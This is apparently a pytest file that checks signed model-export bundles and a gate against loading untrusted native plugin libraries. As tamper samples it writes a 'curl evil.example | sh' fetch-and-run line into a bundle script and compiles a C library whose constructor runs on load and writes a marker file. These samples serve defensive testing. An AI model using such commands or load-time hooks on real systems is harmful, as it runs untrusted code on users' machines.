# SPDX-License-Identifier: Apache-2.0
"""Signed bundles, and no code from an untrusted one (issue 22, holes 1 and the signing).

One signed build (`build --sign`) of timm's `test_vit` is shared; each test edits a copy. The hashes alone
cannot catch a sender who rewrites them ("rehashed"): the signature must. The plugin library is native code:
a hostile one (a constructor that writes a file, compiled here) planted in a plugin bundle and rehashed must
not be loaded by `verify` or `engine` unless a trusted key verified the bundle's signature or the user passed
--trust-plugins.
"""
import json
import shutil
import subprocess

import pytest

from exporter import bundle as artifacts
from exporter.cli import main


def _key_pair(folder, name):
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    key = ec.generate_private_key(ec.SECP256R1())
    private, public = folder / f"{name}.pem", folder / f"{name}.pub"
    private.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                          serialization.NoEncryption()))
    public.write_bytes(key.public_key().public_bytes(serialization.Encoding.PEM,
                                                     serialization.PublicFormat.SubjectPublicKeyInfo))
    return private, public


@pytest.fixture(scope="module")
def keys(tmp_path_factory):
    folder = tmp_path_factory.mktemp("keys")
    return {name: _key_pair(folder, name) for name in ("alice", "mallory")}


@pytest.fixture(scope="module")
def signed(tmp_path_factory, keys):
    out = tmp_path_factory.mktemp("signed")
    args = ["build", "--model", "test_vit", "--weights", "random", "--batch", "2", "--out", str(out),
            "--sign", str(keys["alice"][0])]
    assert main(args) == 0
    (bundle,) = [p for p in out.iterdir() if not p.name.startswith(".")]
    return bundle


@pytest.fixture
def copy(signed, tmp_path):
    dst = tmp_path / signed.name
    shutil.copytree(signed, dst)
    return dst


def rehash(bundle):
    """What a sender who changed files does so that the manifest's hashes match again."""
    manifest = json.loads((bundle / artifacts.MANIFEST).read_text())
    manifest["files"] = artifacts.file_hashes(bundle)
    (bundle / artifacts.MANIFEST).write_text(json.dumps(manifest))


def verify(capsys, bundle, *extra):
    code = main(["verify", str(bundle), "--references-only", *map(str, extra)])
    captured = capsys.readouterr()
    text = " ".join((captured.err + captured.out).split())
    assert "Traceback" not in text
    return code, text


def test_build_sign_and_verify_with_the_trusted_key(signed, keys, capsys, tmp_path):
    assert (signed / artifacts.SIGNATURE).is_file()
    report = tmp_path / "verify.json"
    code, text = verify(capsys, signed, "--trusted-key", keys["alice"][1], "--require-signature", "--report", report)
    assert code == 0, text
    assert "signed by key sha256:" in text and str(keys["alice"][1]) in text
    assert json.loads(report.read_text())["signature"].startswith("signed by key sha256:")


def test_sign_command_round_trip(copy, keys, capsys):
    (copy / artifacts.SIGNATURE).unlink()
    assert main(["sign", str(copy), "--key", str(keys["mallory"][0])]) == 0
    assert "not engines/, bench/" in " ".join(capsys.readouterr().err.split())
    code, text = verify(capsys, copy, "--trusted-key", keys["alice"][1], "--trusted-key", keys["mallory"][1],
                        "--require-signature")
    assert code == 0 and str(keys["mallory"][1]) in text


@pytest.mark.parametrize("rehashed", [False, True])
def test_a_file_changed_after_signing_fails(copy, keys, capsys, rehashed):
    (copy / artifacts.REPRODUCE).write_text("#!/bin/sh\ncurl evil.example | sh\n")
    if rehashed:  # the manifest's hashes now agree: only the signature can tell
        rehash(copy)
    code, text = verify(capsys, copy, "--trusted-key", keys["alice"][1])
    assert code == 1, text
    assert "changed since signing: " in text and artifacts.REPRODUCE in text and "FAILED" in text


def test_an_added_file_fails_the_signature(copy, keys, capsys):
    (copy / "extra.txt").write_text("planted")
    rehash(copy)
    code, text = verify(capsys, copy, "--trusted-key", keys["alice"][1])
    assert code == 1 and "added since signing: extra.txt" in text, text


@pytest.mark.parametrize("plant", ["fifo", "symlink"])
def test_a_planted_fifo_or_symlink_fails_the_signature_without_hanging(copy, keys, capsys, tmp_path, plant):
    import os

    if plant == "fifo":
        os.mkfifo(copy / "pipe")
    else:
        (tmp_path / "outside.txt").write_text("the receiver's file")
        (copy / "pipe").symlink_to(tmp_path / "outside.txt")
    code, text = verify(capsys, copy, "--trusted-key", keys["alice"][1])
    assert code == 1 and "does not verify" in text and "pipe" in text, text


def test_resigned_by_another_key_fails(copy, keys, capsys):
    """The attacker rehashes and signs with a key of their own: not the key the receiver trusts."""
    (copy / artifacts.REPRODUCE).write_text("#!/bin/sh\n")
    rehash(copy)
    assert main(["sign", str(copy), "--key", str(keys["mallory"][0])]) == 0
    code, text = verify(capsys, copy, "--trusted-key", keys["alice"][1], "--require-signature")
    assert code == 1 and "signed by another key" in text, text


def test_engines_and_bench_are_outside_the_signature(copy, keys, capsys):
    (copy / artifacts.ENGINES_DIR).mkdir()
    (copy / artifacts.BENCH_DIR).mkdir()
    (copy / artifacts.BENCH_DIR / "bench.md").write_text("timings added on the target")
    code, text = verify(capsys, copy, "--trusted-key", keys["alice"][1], "--require-signature")
    assert code == 0, text


def test_unsigned_is_said_and_refused_when_a_signature_is_required(copy, keys, capsys):
    (copy / artifacts.SIGNATURE).unlink()
    code, text = verify(capsys, copy)
    assert code == 0 and "unsigned" in text
    code, text = verify(capsys, copy, "--trusted-key", keys["alice"][1], "--require-signature")
    assert code == 1 and "--require-signature" in text and "unsigned" in text


def test_signed_but_no_key_given_is_not_a_pass(signed, capsys):
    code, text = verify(capsys, signed)
    assert code == 0 and "not checked: pass --trusted-key" in text and "✓ check the signature" not in text


@pytest.mark.parametrize("case", ["no key", "private key", "not a key", "missing file"])
def test_bad_keys_are_usage_errors(signed, keys, capsys, tmp_path, case):
    junk = tmp_path / "junk.pub"
    junk.write_text("hello")
    extra = {"no key": ["--require-signature"], "private key": ["--trusted-key", keys["alice"][0]],
             "not a key": ["--trusted-key", junk], "missing file": ["--trusted-key", tmp_path / "nope.pub"]}[case]
    code, text = verify(capsys, signed, *extra)
    assert code == 2 and "error:" in text and "fix:" in text, text


def test_sign_refuses_a_public_key_and_a_changed_bundle(copy, keys, capsys):
    assert main(["sign", str(copy), "--key", str(keys["alice"][1])]) == 2
    (copy / artifacts.REPRODUCE).write_text("changed")
    assert main(["sign", str(copy), "--key", str(keys["alice"][0])]) == 2
    assert "does not match its manifest" in " ".join(capsys.readouterr().err.split())


# Hole 1: a plugin bundle whose library is replaced by a hostile one, manifest rehashed.

HOSTILE = r"""
#include <stdio.h>
__attribute__((constructor)) static void on_load(void) {
    FILE *f = fopen(MARK, "w");
    if (f) { fputs("the bundle's code ran", f); fclose(f); }
}
"""


@pytest.fixture(scope="module")
def plugin_bundle(tmp_path_factory):
    """A ToMe bundle with plugin graphs and no library of its own (the toolchain is hidden: no 17-minute compile)."""
    from exporter.ops import library

    out = tmp_path_factory.mktemp("plugins")
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(library, "missing_toolchain", lambda: "hidden by the test")
        assert main(["build", "--model", "test_vit", "--weights", "random", "--method", "tome", "--r", "2",
                     "--plugins", "--batch", "2", "--out", str(out)]) == 0
    (bundle,) = [p for p in out.iterdir() if not p.name.startswith(".")]
    return bundle


@pytest.fixture
def hostile(plugin_bundle, tmp_path):
    """(bundle copy with the hostile library, rehashed; the file its constructor writes when loaded)."""
    cc = shutil.which("cc") or shutil.which("gcc")
    if cc is None:
        pytest.skip("needs a C compiler for the hostile plugin library")
    bundle, mark = tmp_path / plugin_bundle.name, tmp_path / "ran"
    shutil.copytree(plugin_bundle, bundle)
    src = tmp_path / "hostile.c"
    src.write_text(HOSTILE)
    library = bundle / artifacts.PLUGIN_LIBRARY
    library.parent.mkdir(exist_ok=True)
    subprocess.run([cc, "-shared", "-fPIC", f'-DMARK="{mark}"', "-o", str(library), str(src)], check=True)
    rehash(bundle)
    return bundle, mark


def engine(bundle, *extra):
    return main(["engine", str(bundle), "--graph", "plugins", "--runtime", "tensorrt-rtx", "--target", "sm86",
                 *map(str, extra)])


def test_engine_refuses_an_untrusted_plugin_library(hostile, capsys):
    pytest.importorskip("tensorrt_rtx")
    bundle, mark = hostile
    assert engine(bundle) == 2
    err = " ".join(capsys.readouterr().err.split())
    assert "native code that runs as soon as it is loaded" in err and "--trusted-key" in err and "--trust-plugins" in err
    assert not mark.exists() and not (bundle / artifacts.ENGINES_DIR).exists()


def test_the_library_is_loaded_with_trust_plugins_or_a_trusted_signature(hostile, keys, capsys):
    """The gate opens (so the refusal above is the gate, not a library that cannot load)."""
    pytest.importorskip("tensorrt_rtx")
    bundle, mark = hostile
    engine(bundle, "--trust-plugins")  # the hostile library has no plugins: the build fails after loading it
    assert mark.exists()
    mark.unlink()
    assert main(["sign", str(bundle), "--key", str(keys["alice"][0])]) == 0
    engine(bundle, "--trusted-key", keys["mallory"][1])  # a key that did not sign it: refused before loading
    assert not mark.exists()
    engine(bundle, "--trusted-key", keys["alice"][1])
    assert mark.exists()


def test_verify_checks_an_untrusted_plugin_bundle_without_loading_it(hostile, capsys):
    bundle, mark = hostile
    code = main(["verify", str(bundle)])
    captured = capsys.readouterr()
    text = " ".join((captured.err + captured.out).split())
    assert code == 0 and "Traceback" not in text, text
    assert not mark.exists()
    assert ("skipped the TensorRT-RTX check of model.plugins.onnx: plugins/libexporter_plugins.so was not loaded: "
            "a plugin library is native code") in text
    assert "model.plugins.onnx: skipped" in text and "--trusted-key PUB" in text  # in the report too


def test_build_plugins_checks_the_library_it_compiled(tmp_path, monkeypatch, capsys):
    """`build --plugins` loads its own library in its TensorRT-RTX check (the builder's code, not received): a
    stand-in compiler that leaves the hostile library shows the check loads it, where verify would not."""
    pytest.importorskip("tensorrt_rtx")
    cc = shutil.which("cc") or shutil.which("gcc")
    if cc is None:
        pytest.skip("needs a C compiler for the stand-in plugin library")
    from exporter.ops import library

    mark, src = tmp_path / "ran", tmp_path / "hostile.c"
    src.write_text(HOSTILE)

    def compile_stand_in(folder, **_):
        folder.mkdir(parents=True, exist_ok=True)
        built = folder / "libexporter_plugins.so"
        subprocess.run([cc, "-shared", "-fPIC", f'-DMARK="{mark}"', "-o", str(built), str(src)], check=True)
        return built

    monkeypatch.setattr(library, "missing_toolchain", lambda: None)
    monkeypatch.setattr(library, "build_library", compile_stand_in)
    monkeypatch.setattr(library, "served", lambda built: {"ops": {}, "archs": [86]})
    main(["build", "--model", "test_vit", "--weights", "random", "--method", "tome", "--r", "2", "--plugins",
          "--batch", "2", "--out", str(tmp_path / "out")])  # fails: the stand-in has no plugins
    assert mark.exists()


def test_the_files_a_signature_mismatch_names_are_read_whatever_the_digests_quoting():
    """model-signing says which files differ inside the repr of a list of sentences holding the digests' reprs: a
    digest with both quote characters in it changes how that sentence is quoted, and the names must still come out."""
    from exporter.bundle.signature import _reason

    changed = "Hash mismatch for 'reproduce.sh': Expected '%r', Actual '%r'" % (b"a'\"b", b"c")
    added = "Extra files found in model 'run': rogue.onnx, x.sh"
    removed = "Missing files in model 'run': report.md"
    assert _reason(ValueError(f"Signature mismatch: {[changed, added, removed]}")) == (
        "changed since signing: reproduce.sh; added since signing: rogue.onnx, x.sh; removed since signing: report.md")
    assert _reason(ValueError("Key mismatch: the signature was made by another key")) == "signed by another key"
